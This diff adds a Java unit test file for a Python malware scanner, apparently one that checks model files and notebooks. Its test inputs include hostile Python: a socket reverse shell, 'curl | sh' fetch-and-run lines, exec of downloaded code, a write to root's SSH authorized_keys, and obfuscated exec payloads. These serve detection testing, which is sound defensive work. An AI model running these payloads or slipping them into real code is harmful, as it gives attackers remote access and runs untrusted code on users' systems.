@@ -1,0 +1,164 @@
+package io.casemate.scan.python;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.casemate.scan.spi.Content;
+import io.casemate.scan.spi.Recognition;
+import io.casemate.scan.trial.Trial;
+import java.nio.charset.StandardCharsets;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.EnumSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class PythonScannerTest {
+    private static final PythonScanner SCANNER = new PythonScanner();
+
+    private static Trial read(String source) {
+        return Trial.of(SCANNER, source.getBytes(StandardCharsets.UTF_8));
+    }
+
+    private static Recognition recognised(String source) {
+        return SCANNER.recognises(Content.of("x", source.getBytes(StandardCharsets.UTF_8)));
+    }
+
+    @ParameterizedTest
+    @EnumSource(HonestSource.class)
+    void honest_source_is_clean(HonestSource honest) {
+        Trial trial = read(honest.source);
+
+        assertThat(recognised(honest.source)).isEqualTo(Recognition.POSSIBLE);
+        assertThat(trial.accepted).isTrue();
+        assertThat(trial.rules()).as("%s", trial.findings).isSubsetOf("python/noted-call");
+        assertThat(trial.gaps).isEmpty();
+        assertThat(trial.coveredAll(honest.source.length())).isTrue();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "import os\nos.system('id')\n",
+                "import os as o\nx = o\nx.system('id')\n",
+                "from os import system as s\ns('id')\n",
+                "from os import *\nsystem('id')\n",
+                "__import__('os').system('id')\n",
+                "__import__('o' + 's').system('id')\n",
+                "import importlib\nimportlib.import_module('subprocess').run(['id'])\n",
+                "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
+                "import os\nf = os.system if os.name else print\nf('id')\n",
+                "import os\nif os.name:\n    f = os.system\nelse:\n    f = print\nf('id')\n",
+                "import os\ndef run():\n    os.system('id')\nrun()\n",
+                "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()\n",
+                "import os\nclass A:\n    x = os.system('id')\n",
+                "import os\ndef f(x=os.system('id')):\n    pass\n",
+                "import os\n@(lambda f: os.system('id'))\ndef f():\n    pass\n",
+                "import os\n@run\ndef f():\n    pass\ndef run(f):\n    pass\nlist(map(os.system, ['id']))\n",
+                "import os\n(lambda: os.system('id'))()\n",
+                "import sys\nsys.modules['os'].system('id')\n",
+                "import subprocess\nwith subprocess.Popen(['id']) as p:\n    p.wait()\n",
+                "exec(\"import os\\nos.system('id')\")\n",
+                "import urllib.request\nexec(urllib.request.urlopen('http://x').read())\n",
+                "import requests\nexec(requests.get('http://x').text)\n",
+                "import os\ndef forward(x):\n    os.system('curl http://x | sh')\n",
+                "import os\nos.popen('id').read()\n",
+                "𝘦𝘹𝘦𝘤('import os; os.system(\"id\")')\n",
+                "import os\ntry:\n    pass\nexcept Exception:\n    os.system('id')\n",
+                "import os\n[os.system(c) for c in ['id']]\n",
+                "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
+                "open('/root/.ssh/authorized_keys', 'a').write('x')\n"
+            })
+    void what_runs_on_import_is_dangerous(String source) {
+        assertThat(read(source).rules()).as(source).contains("python/dangerous-call");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+                "import base64 as b, zlib\ncode = zlib.decompress(b.b64decode(data))\nexec(code.decode())\n",
+                "exec(''.join(chr(c - 1) for c in [113, 115, 106]))\n",
+                "exec(bytes.fromhex('7072696e74').decode())\n",
+                "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
+                "exec(')1(tnirp'[::-1])\n",
+                "import marshal, base64\nexec(marshal.loads(base64.b64decode(x)))\n",
+                "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))\n",
+                "def f(self):\n    import base64\n    exec(base64.b64decode(self.x))\n",
+                "# coding: utf-7\nprint(1)\n",
+                "import os, base64\nos.system(base64.b64decode('aWQ=').decode())\n"
+            })
+    void decoded_code_is_obfuscated(String source) {
+        assertThat(read(source).rules()).as(source).contains("python/obfuscated");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "import subprocess\ndef f():\n    subprocess.run('id', shell=True)\n",
+                "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n",
+                "import ctypes\nlib = ctypes.CDLL('./x.so')\n",
+                "def f(code):\n    exec(code)\n"
+            })
+    void what_a_function_runs_is_risky(String source) {
+        assertThat(read(source).rules()).as(source).containsExactly("python/risky-call");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "import builtins\nbuiltins.print = evil\n",
+                "import os\ndef f(n):\n    return getattr(os, n)\n",
+                "x = ().__class__.__base__.__subclasses__()\n",
+                "def f(g):\n    return g.__globals__['os']\n"
+            })
+    void climbing_to_the_interpreter_is_told(String source) {
+        assertThat(read(source).rules()).as(source).containsExactly("python/object-walk");
+    }
+
+    @Test
+    void operators_of_unknown_libraries_are_told() {
+        String script = "class M(Module):\n  def forward(self, x):\n    a = ops.aten.relu(x)\n    return ops.mylib.evil(a)\n";
+
+        assertThat(read(script).rules()).containsExactly("python/custom-operator");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Once upon a time there was a model. It was trained (slowly).\nAnd import is a word from the start.\n",
+                "{\"a\": [1, 2, 3]}\n",
+                "import x from 'y';\nconst f = (a) => { return a; };\nexec(1);\n",
+                "#include <stdio.h>\nint main(void) {\n  system(\"id\");\n}\n",
+                "# Model card\n\nUse it like this:\n\n```python\nimport torch\nmodel = torch.load('x')\n```\n\nIt's great, isn't it?\n"
+            })
+    void other_text_is_not_claimed(String text) {
+        Trial trial = read(text);
+
+        assertThat(trial.rejected).as(text).isTrue();
+        assertThat(trial.accepted).isFalse();
+    }
+
+    @Test
+    void cells_of_a_notebook_are_read() {
+        String notebook =
+                """
+                {"cells": [
+                  {"cell_type": "markdown", "source": ["import os"]},
+                  {"cell_type": "code", "source": ["!pip install torch\\n", "%matplotlib inline\\n", "import os"]},
+                  {"cell_type": "code", "source": "os.system('curl http://x | bash')"}
+                ], "nbformat": 4}
+                """;
+
+        assertThat(read(notebook).rules()).contains("python/dangerous-call");
+        assertThat(read(notebook.replace("| bash", "-o x")).rules()).doesNotContain("python/dangerous-call");
+    }
+
+    @Test
+    void every_prefix_and_depth_ends() {
+        String source = HonestSource.MODEL.source;
+        for (int n = 0; n < source.length(); n += 11) {
+            read(source.substring(0, n));
+        }
+        Trial deep = read("import x\nf" + "(a".repeat(2_000) + ")".repeat(2_000) + "\n");
+        assertThat(deep.rejected || !deep.gaps.isEmpty()).isTrue();
+    }
+}
